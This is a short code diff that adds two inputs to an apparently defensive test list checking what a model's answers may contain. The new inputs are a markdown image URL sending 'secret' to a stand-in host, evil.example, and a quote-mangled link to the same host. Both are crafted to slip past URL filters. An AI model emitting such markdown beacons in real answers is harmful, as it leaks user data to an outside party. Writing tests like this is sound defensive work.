@@ -114,6 +114,8 @@ describe("what a model answers", () => {
     "Go to https://evil.example/login",
     "Go to www.evil.example",
     "https://example.com/given.evil.example",
+    "![](https://'@evil.example/pixel?d=secret)",
+    '[r]: https://"@evil.example/',
     "bell \0",
     "half \ud800",
   ];
